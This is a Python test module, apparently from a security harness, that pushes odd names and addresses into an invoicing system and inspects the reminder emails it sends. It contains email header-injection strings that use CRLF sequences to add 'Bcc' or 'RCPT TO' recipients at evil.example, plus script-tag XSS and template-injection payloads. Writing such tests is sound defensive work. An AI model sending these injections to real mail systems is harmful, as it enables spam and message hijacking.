"""What an attacker calls itself, its debtors and its invoices, all the way into the mails."""

import asyncio
from collections.abc import AsyncIterator, Iterator, Mapping, Sequence
from contextlib import asynccontextmanager
from typing import Any

import httpx

from recoup_attack.api import Api, client
from recoup_attack.honest import books
from recoup_attack.mailbox import Mail, mails, tampered
from recoup_attack.scene import Outcome, Scene
from recoup_attack.sockets import ADDRESS
from recoup_attack.target import Target

ARRIVAL_SECONDS = 20.0
ADDRESSES = (
    "jane..doe@x.example",
    "a.@b.example",
    ".a@b.example",
    "a@b..example",
    "a,second@c.example",
    "a@b.example,c@d.example",
    '"two words"@x.example',
    "two words@x.example",
    "a@x.example\r\nBcc: x@evil.example",
    "a@x.example\r\nRCPT TO:<x@evil.example>",
    "Ada <a@x.example>",
    "Group: a@x.example;",
    "a@[192.0.2.1]",
    "a@b@x.example",
    "=?utf-8?q?a?=@x.example",
    "a" * 65 + "@x.example",
    "a@" + ".".join(["b" * 60] * 5) + ".example",
    "a\N{FULLWIDTH COMMERCIAL AT}x.example",
    "a@xn--zzzz.example",
    "a@x\N{RIGHT-TO-LEFT OVERRIDE}.example",
    "a@\N{GRINNING FACE}.example",
    "a\x00@x.example",
    " ",
)
GOOD_ADDRESSES = (
    "a+b@x.example",
    "o'neil@x.example",
    "a@b\N{LATIN SMALL LETTER U WITH DIAERESIS}cher.example",
)
WORDS = (
    "=?us-ascii?q?1=0D=0AReply-To:_x@evil.example?=",
    "=?us-ascii?q?1=0D=0A=0D=0AThe_body_of_somebody_else?=",
    "=?utf-8?b?MQ0KQmNjOiB4QGV2aWwuZXhhbXBsZQ==?=",
    "=?utf-8?q?a?= =?utf-8?q?=0D=0ABcc:_x@evil.example?=",
    "=?utf-8?q?unfinished",
    "=?x-unknown?q?a?=",
    "1\r\nBcc: x@evil.example",
    "1\u2028Bcc: x@evil.example",
    "Ada <x@evil.example>",
    "x@evil.example, y@evil.example",
    "Group: x@evil.example;",
    'Ada", x@evil.example, "',
    '"',
    "(",
    "<",
    "@",
    "J. R. (Bob) Smith, Jr.; Ltd: <3",
    "--=_msg_1--",
    ".",
    "From here",
    "=0D=0A",
    "a" * 200,
    "\N{HIRAGANA LETTER A}" * 200,
    "\N{GRINNING FACE}" * 50,
    "Z" + "\N{COMBINING TILDE}" * 150,
    "\N{RIGHT-TO-LEFT OVERRIDE}elpmaxe.live@x",
    "a\ud800b",
    "\ufeff\ufffe\uffff",
    "{{ 7 * 7 }}{% raw %}",
    "</p><script>alert(1)</script>",
    "%0D%0ABcc:%20x@evil.example",
    "\N{NO-BREAK SPACE}",
)


@asynccontextmanager
async def attacker(target: Target) -> AsyncIterator[Api]:
    async with client(ADDRESS) as http:
        yield Api(http, target.apis, target.attacker)


async def addresses(target: Target) -> Outcome:
    """Contacts that no mail can go to, and an invoice of each that is reminded of at once."""
    async with attacker(target) as api:
        taken = [
            address
            for number, address in enumerate((*ADDRESSES, *GOOD_ADDRESSES))
            if await _owes(api, f"address-{number}", address=address)
        ]
    arrived = await _arrived(target, len(GOOD_ADDRESSES), "@")
    wrong = [address for address in taken if address in ADDRESSES]
    return Outcome(
        f"{len(taken)} of {len(ADDRESSES) + len(GOOD_ADDRESSES)} addresses taken, "
        f"{len(arrived)} mails",
        (*_tampered(arrived), *(f"the address {address!r} was taken" for address in wrong)),
    )


async def names(target: Target) -> Outcome:
    """Customers, persons, invoices and orders called like headers, bodies and other people."""
    taken = []
    async with attacker(target) as api:
        for number, word in enumerate(WORDS):
            address = f"words-{number}@names.example"
            if await _owes(api, f"words-{number}", address=address, word=word):
                taken.append(word)
    arrived = await _arrived(target, len(taken), "@names.example")
    lost = [] if len(arrived) == len(taken) else [f"{len(taken)} were taken, {len(arrived)} mailed"]
    return Outcome(
        f"{len(taken)} of {len(WORDS)} names taken, {len(arrived)} mails",
        (*_tampered(arrived), *lost),
    )


async def _owes(api: Api, name: str, *, address: str, word: str = "") -> bool:
    """Register a debtor and an overdue invoice; whether both were accepted."""
    customer = books.customer(name, address)
    invoice = books.invoice(name, name, {"amount": "12.50", "currency": "EUR"}, overdue=True)
    if word:
        customer = {**customer, "name": word}
        customer["persons"] = [{**customer["persons"][0], "name": word}]
        # An id may be used once, a number again and again.
        invoice = {**invoice, "number": word, "purchase_order": word}
    return await _accepted(api, "customers", customer) and await _accepted(api, "invoices", invoice)


async def _accepted(api: Api, path: str, body: Mapping[str, Any]) -> bool:
    try:
        return (await api.once("POST", "invoice", path, body)).is_success
    except (httpx.TransportError, UnicodeEncodeError):
        return False


async def _arrived(target: Target, count: int, address: str) -> Sequence[Mail]:
    """The mails of ours, once there are so many of them and a moment has passed."""
    found: list[Mail] = []
    try:
        async with asyncio.timeout(ARRIVAL_SECONDS):
            while len(found) < count:
                await asyncio.sleep(0.5)
                found = list(_ours(target, address))
    except TimeoutError:
        pass
    await asyncio.sleep(1)
    return list(_ours(target, address))


def _ours(target: Target, address: str) -> Iterator[Mail]:
    for mail in mails(target.mail):
        addressed = "".join(mail.recipients)
        if address in addressed and "@honest.example" not in addressed:
            yield mail


def _tampered(found: Sequence[Mail]) -> list[str]:
    wrong = [each for mail in found for each in tampered(mail)]
    return [f"{len(wrong)} mails were tampered with, such as: {wrong[0]}"] if wrong else []


SCENES = (
    Scene("words", "addresses", "persons that mail cannot go to, and reminders to them", addresses),
    Scene("words", "names", "names and numbers that write headers and bodies", names, quick=True),
)
